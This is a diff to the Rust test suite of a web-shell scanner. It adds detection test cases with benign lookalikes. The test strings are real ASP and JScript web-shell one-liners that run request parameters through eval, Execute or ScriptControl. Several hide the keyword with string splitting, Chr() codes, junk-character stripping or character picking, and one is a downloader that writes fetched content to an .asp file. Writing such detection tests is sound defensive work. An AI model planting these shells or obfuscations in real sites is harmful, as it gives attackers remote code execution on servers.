@@ -122,6 +122,16 @@ fn cases() -> Vec<Case> {
             "<%\nFunction Crlf()\nCrlf = Chr(13) & Chr(10)\nEnd Function\nsql = \"SELECT 1\" & Crlf()\nconn.Execute(BuildSql(\"x\"))\nResponse.Write Pad(Request(\"n\"))\n%>\n",
         ),
         case(
+            "EXRAY_ASP_Execute_Char_Pieces",
+            "<%\nexecute \"\" & (\"ex\"&\"e\"&\"cu\"&\"te\"&\" \"&\"re\"&\"q\"&\"ue\"&\"st\"&\"(9)\")\n%>\n",
+            "<%\nline = \"<\" & \"td\" & \">\" & name & \"</\" & \"td\" & \">\"\nconn.Execute(\"UPDATE t SET a = \" & n)\n%>\n",
+        ),
+        case(
+            "EXRAY_JScript_Service_Eval",
+            "<%@ WebService Language=\"JScript\" Class=\"Tools\" %>\nimport System.Web.Services;\npublic class Tools extends WebService {\n WebMethodAttribute function Run(expr : String) : String { return String(eval(expr)); }\n}\n",
+            "<%@ WebService Language=\"C#\" Class=\"Tools\" %>\nusing System.Web.Services;\npublic class Tools : WebService {\n [WebMethod] public string Echo(string s) { return DataBinder.Eval(s, \"Length\").ToString(); }\n}\n",
+        ),
+        case(
             "EXRAY_ASP_Chr_Keyword_Split",
             "<%\nSet o = Server.CreateObject(\"MSScr\"&chr(105)&\"pt\"&chr(67)&\"ont\"&chr(114)&\"ol\")\n%>\n",
             "<%\ns = \"a\" & Chr(34) & \"b\" & vbCrLf & \"c\" & Chr(13) & Chr(10)\nt = \"x\" & Chr(39) & \"y\" & Chr(9) & \"z\"\n%>\n",
@@ -515,6 +525,51 @@ fn obfuscated_one_liner_variants() {
     // ASP.NET writer: path and content from text boxes.
     let boxes = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Save(object o, EventArgs e) {\n var w = new System.IO.StreamWriter(txtFile.Text, true);\n w.Write(txtBody.Text);\n w.Close();\n}\n</script>";
     assert!(hits(boxes).contains("EXRAY_File_Writer_Request"));
+    // eval_r: the one-liner after a filter renamed eval.
+    let eval_r = "<%eval_r(Request(\"k2\"))%>";
+    assert!(hits(eval_r).contains("EXRAY_Eval_Request_Direct"));
+    // The key spelled with Chr(), the statement ended by a comment.
+    let comment = "<%\nk = Chr(-100) & Chr(-200)\nv = Request(k)\neVal v 'the key\n%>";
+    assert!(hits(comment).contains("EXRAY_VBS_Eval_Request_Variable"));
+    // Junk characters stripped out of a hidden statement, then run.
+    let strip =
+        "<%\nq = \"eQxQeQcQuQtQe(rQeQqQuQeQsQt(9))\"\nq = Replace(q, \"Q\", \"\")\neval q\n%>";
+    assert!(hits(strip).contains("EXRAY_ASP_Execute_Decoder"));
+    // A statement spelled by calls that pick characters from a key string.
+    let picks = "<%\nFunction p(n):p=Mid(k,n,1):End Function:k=\"abcdefghij\"\nExecute(p(5)&p(2)&p(1)&p(9)&p(3))\n%>";
+    assert!(hits(picks).contains("EXRAY_ASP_Execute_Decoder"));
+    // JScript that hands eval out of a function.
+    let ret = "<%@ Language=\"JScript\" %>\n<% function g(x) { if (x) { return Request('q') + ''; } return eval\n}\ng()(g(1)); %>";
+    assert!(hits(ret).contains("EXRAY_JScript_Eval_Alias"));
+    // ScriptControl given request code without AddObject.
+    let sc = "<%\nSet o = Server.CreateObject(\"MSScriptControl.ScriptControl\")\no.Language = \"vbscript\"\no.AddCode(Request(\"c\"))\no.Run \"m\", Response\n%>";
+    assert!(hits(sc).contains("EXRAY_ScriptControl_Request"));
+    // A downloader pasted from GBK text: its quotes are the curly quotes GBK encodes as A1 B0 / A1 B1.
+    let mut gbk: Vec<u8> = Vec::new();
+    for part in [
+        "<%\nSet h = CreateObject(",
+        "\u{1}Microsoft.XMLHTTP\u{2}",
+        ")\nh.Open \u{1}GET\u{2}, u, False\nh.Send()\nSet s = CreateObject(\u{1}ADODB.Stream\u{2})\ns.Write(h.responseBody)\ns.SaveToFile Server.MapPath(\u{1}x.asp\u{2}), 2\n%>",
+    ] {
+        for b in part.bytes() {
+            match b {
+                1 => gbk.extend_from_slice(&[0xA1, 0xB0]),
+                2 => gbk.extend_from_slice(&[0xA1, 0xB1]),
+                b => gbk.push(b),
+            }
+        }
+    }
+    let gbk_hits: BTreeSet<String> = rules()
+        .scanner()
+        .scan("gbk.asp", &gbk)
+        .expect("scan")
+        .into_iter()
+        .map(|h| h.meta.id)
+        .collect();
+    assert!(
+        gbk_hits.contains("EXRAY_Remote_Fetch_To_Disk"),
+        "{gbk_hits:?}"
+    );
     // A GIF header in front changes nothing.
     let gif = "GIF89a\n<%eval request(\"i\")%>";
     assert!(hits(gif).contains("EXRAY_Eval_Request_Direct"));
